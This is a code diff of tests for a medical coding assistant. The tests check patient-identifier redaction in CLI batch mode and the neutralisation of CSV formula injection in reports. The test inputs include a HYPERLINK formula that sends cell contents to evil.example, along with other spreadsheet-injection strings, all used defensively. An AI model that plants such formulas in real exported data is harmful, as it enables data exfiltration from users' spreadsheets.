@@ -298,7 +298,7 @@ describe('patient identifiers are redacted in the forms people paste them', () =
 
   it('redacts in every CLI command too: batch goes through the same pipeline as the server', () => {
     const out = execFileSync(process.execPath, [path.join(ROOT, 'bin', 'codebot.js'), 'batch'], {
-      input: 'patient at LS1 4AP had single incision lap chole, how to code\nMrs Jane Smith LS1 4AP knee arthroscopy codes\n',
+      input: 'patient at LS1 4AP had single incision lap chole, how to code\nMrs Jane Smith LS1 4AP carpal tunnel release codes\n',
       encoding: 'utf8',
     });
     const [first, second] = out.trim().split('\n').map((l) => JSON.parse(l) as { guidance: string[]; notices: string[]; text: string });
@@ -314,7 +314,7 @@ describe('the report and feedback take nothing from the client on trust', () => 
     const store = new MemoryStore();
     const a = (await import('../src/assistant/assistant.js')).Assistant;
     const b = new a(assistant().kb, assistant().nlu, { store, limits: null });
-    for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") knee arthroscopy code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond hair transplant code']) {
+    for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") carpal tunnel release code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond hair transplant code']) {
       await b.handle({ text: q, conversation: { platform: 't', channel: randomUUID(), thread: null }, user: 'u' });
     }
     const csv = formatReport(buildReport(store, new Date(0)), 'csv');
